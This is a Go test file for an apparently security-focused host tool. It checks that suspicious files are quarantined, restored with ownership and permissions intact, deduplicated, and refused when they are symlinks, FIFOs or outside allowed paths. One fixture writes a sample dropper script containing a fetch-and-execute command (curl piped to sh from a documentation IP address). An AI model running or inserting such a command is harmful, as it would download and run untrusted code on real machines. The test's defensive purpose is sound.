package hostops

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

func fileCmd(action, path, extra string) string {
	return `{"action":"` + action + `","target":{"file":{"path":"` + path + `"` + extra + `}}}`
}

func sha(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

func TestQuarantineAndRestore(t *testing.T) {
	dir := t.TempDir()
	h := newHost(t, func(c *Config) { c.QuarantinePaths = []string{dir} })
	p := filepath.Join(dir, "dropper.sh")
	content := []byte("#!/bin/sh\ncurl http://203.0.113.7/x | sh\n")
	if err := os.WriteFile(p, content, 0o600); err != nil {
		t.Fatal(err)
	}
	mode := os.FileMode(0o750)
	uid, gid := os.Getuid(), os.Getgid()
	if os.Geteuid() == 0 {
		// As root, prove owner and set-id bits survive the round trip.
		mode, uid, gid = os.ModeSetuid|0o750, 1234, 5678
		if err := os.Chown(p, uid, gid); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
	mtime := time.Date(2020, 1, 2, 3, 4, 5, 6, time.UTC)
	if err := os.Chtimes(p, mtime, mtime); err != nil {
		t.Fatal(err)
	}
	sum := sha(content)

	out := handle(t, h, fileCmd("contain", p, `,"hashes":{"sha256":"`+strings.ToUpper(sum)+`"}`))
	expect(t, out, 200, "quarantined", sum)
	if _, err := os.Lstat(p); !os.IsNotExist(err) {
		t.Fatalf("original still there: %v", err)
	}
	stored := filepath.Join(h.cfg.DataDir, "quarantine", sum, "data")
	b, err := os.ReadFile(stored)
	if err != nil || sha(b) != sum {
		t.Fatalf("quarantined copy: %v", err)
	}
	if st, _ := os.Stat(stored); st.Mode().Perm() != 0o400 {
		t.Fatalf("quarantined copy mode %v, want 0400 (never executable)", st.Mode())
	}
	var man quarantineManifest
	if err := readJSON(filepath.Join(h.cfg.DataDir, "quarantine", sum, "manifest.json"), &man); err != nil {
		t.Fatal(err)
	}
	e := man.Entries[0]
	if len(man.Entries) != 1 || e.Path != p || e.UID != uint32(uid) || e.GID != uint32(gid) ||
		e.Requester != "alice@soc" || e.Incident != "INC-1" || man.Sums.SHA256 != sum {
		t.Fatalf("manifest %+v", man)
	}
	if string(out.Undo) != `{"action":"allow","target":{"file":{"path":"`+p+`","hashes":{"sha256":"`+sum+`"}}}}` {
		t.Fatalf("undo %s", out.Undo)
	}

	back := undo(t, h, out)
	expect(t, back, 200, "restored", "verified")
	got, err := os.ReadFile(p)
	if err != nil || string(got) != string(content) {
		t.Fatalf("restored content %q %v", got, err)
	}
	st, _ := os.Stat(p)
	sys := st.Sys().(*syscall.Stat_t)
	if st.Mode() != mode || int(sys.Uid) != uid || int(sys.Gid) != gid || !st.ModTime().Equal(mtime) {
		t.Fatalf("restored %v %d:%d %v, want %v %d:%d %v", st.Mode(), sys.Uid, sys.Gid, st.ModTime(), mode, uid, gid, mtime)
	}
	if _, err := os.Stat(filepath.Join(h.cfg.DataDir, "quarantine", sum)); !os.IsNotExist(err) {
		t.Fatalf("quarantine entry kept after restore: %v", err)
	}
	// The undo of the restore quarantines again.
	expect(t, undo(t, h, back), 200, "quarantined")
}

func TestDeleteIsQuarantine(t *testing.T) {
	dir := t.TempDir()
	h := newHost(t, nil)
	p := filepath.Join(dir, "x")
	os.WriteFile(p, []byte("x"), 0o644)
	out := handle(t, h, fileCmd("delete", p, ""))
	expect(t, out, 200, "quarantined")
	if out.Undo == nil {
		t.Fatal("delete must be undoable")
	}
}

func TestQuarantineRefusals(t *testing.T) {
	dir := t.TempDir()
	outside := t.TempDir()
	h := newHost(t, func(c *Config) { c.QuarantinePaths = []string{dir} })
	regular := filepath.Join(dir, "regular")
	os.WriteFile(regular, []byte("content"), 0o644)
	os.WriteFile(filepath.Join(outside, "secret"), []byte("secret"), 0o600)
	os.Symlink(filepath.Join(outside, "secret"), filepath.Join(dir, "link"))
	os.Symlink(outside, filepath.Join(dir, "linkdir"))
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	os.Mkdir(filepath.Join(dir, "sub"), 0o755)
	cases := []struct {
		name, cmd string
		status    int
		want      string
	}{
		{"hash mismatch", fileCmd("contain", regular, `,"hashes":{"md5":"`+strings.Repeat("0", 32)+`"}`), 404, "target.file.hashes.md5"},
		{"missing", fileCmd("contain", filepath.Join(dir, "nope"), ""), 404, "does not exist"},
		{"symlink", fileCmd("contain", filepath.Join(dir, "link"), ""), 403, "symbolic link"},
		{"symlinked directory", fileCmd("contain", filepath.Join(dir, "linkdir", "secret"), ""), 403, "symbolic link"},
		{"fifo (must not hang)", fileCmd("contain", fifo, ""), 400, "not a regular file"},
		{"directory", fileCmd("contain", filepath.Join(dir, "sub"), ""), 400, "not a regular file"},
		{"outside allowlist", fileCmd("contain", filepath.Join(outside, "secret"), ""), 403, "quarantine_paths"},
		{"no path", `{"action":"contain","target":{"file":{"name":"x"}}}`, 400, "target.file.path: required"},
		{"restore unknown", fileCmd("allow", regular, ""), 404, "no quarantined file"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			expect(t, handle(t, h, tc.cmd), tc.status, tc.want)
		})
	}
	if b, err := os.ReadFile(filepath.Join(outside, "secret")); err != nil || string(b) != "secret" {
		t.Fatal("file behind the symlink was touched")
	}
	if _, err := os.Lstat(regular); err != nil {
		t.Fatal("mismatched file was moved")
	}
}

func TestRestoreRefusesToOverwrite(t *testing.T) {
	dir := t.TempDir()
	h := newHost(t, nil)
	p := filepath.Join(dir, "x")
	os.WriteFile(p, []byte("old"), 0o644)
	out := handle(t, h, fileCmd("contain", p, ""))
	expect(t, out, 200)
	os.WriteFile(p, []byte("new file appeared"), 0o644)
	res := undo(t, h, out)
	expect(t, res, 400, "exists again", "refusing to overwrite")
	if b, _ := os.ReadFile(p); string(b) != "new file appeared" {
		t.Fatalf("file overwritten: %q", b)
	}
	// The quarantined copy is kept for a later restore.
	os.Remove(p)
	expect(t, undo(t, h, out), 200, "restored")
	if b, _ := os.ReadFile(p); string(b) != "old" {
		t.Fatalf("restored %q", b)
	}
}

// Two paths with the same content share one store entry; each restores.
func TestQuarantineDeduplicates(t *testing.T) {
	dir := t.TempDir()
	h := newHost(t, nil)
	a, b := filepath.Join(dir, "a"), filepath.Join(dir, "b")
	os.WriteFile(a, []byte("same"), 0o644)
	os.WriteFile(b, []byte("same"), 0o600)
	outA := handle(t, h, fileCmd("contain", a, ""))
	outB := handle(t, h, fileCmd("contain", b, ""))
	expect(t, outA, 200)
	expect(t, outB, 200)
	var man quarantineManifest
	readJSON(filepath.Join(h.cfg.DataDir, "quarantine", sha([]byte("same")), "manifest.json"), &man)
	if len(man.Entries) != 2 {
		t.Fatalf("entries %+v", man.Entries)
	}
	expect(t, undo(t, h, outA), 200)
	expect(t, undo(t, h, outB), 200)
	for _, p := range []string{a, b} {
		if c, _ := os.ReadFile(p); string(c) != "same" {
			t.Fatalf("%s: %q", p, c)
		}
	}
	if st, _ := os.Stat(b); st.Mode().Perm() != 0o600 {
		t.Fatalf("b mode %v", st.Mode())
	}
	var details map[string]any
	json.Unmarshal(outA.Response.Results["x-riposte"], &details)
	if details["quarantine"] == nil {
		t.Fatalf("response results lack the quarantine path: %v", details)
	}
}
